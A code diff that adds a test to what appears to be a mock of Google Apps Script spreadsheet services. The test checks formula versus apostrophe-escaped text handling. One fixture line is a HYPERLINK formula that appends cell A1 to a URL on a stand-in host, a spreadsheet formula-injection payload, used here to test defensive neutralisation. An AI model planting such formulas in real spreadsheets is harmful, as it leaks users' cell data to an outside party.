@@ -33,6 +33,18 @@ describe('the Google services double', () => {
     expect(v[3]).toBe('=1+1');
   });
 
+  it('takes text beginning with «=» for a formula, unless an apostrophe (not part of the value) makes it text', () => {
+    const d = make();
+    const sheet = (d.globals.SpreadsheetApp as AnyApi).getActiveSpreadsheet().getSheets()[0];
+    const link = '=HYPERLINK("http://x.example/?"&A1;"y")';
+    sheet.getRange(1, 1, 1, 4).setValues([['=1+1', link, `'${link}`, "''цитата"]]);
+    expect(sheet.getRange(1, 1, 1, 4).getFormulas()).toEqual([['=1+1', link, '', '']]);
+    expect(sheet.getRange(1, 1, 1, 4).getValues()).toEqual([[2, '#ERROR!', link, "'цитата"]]);
+    // Written back as read, the text turns into a live formula: the add-on must re-neutralise it.
+    sheet.getRange(1, 3).setValue(sheet.getRange(1, 3).getValue());
+    expect(sheet.getRange(1, 3).getFormula()).toBe(link);
+  });
+
   it('counts every call per service method', () => {
     const d = make();
     const app = d.globals.SpreadsheetApp as AnyApi;
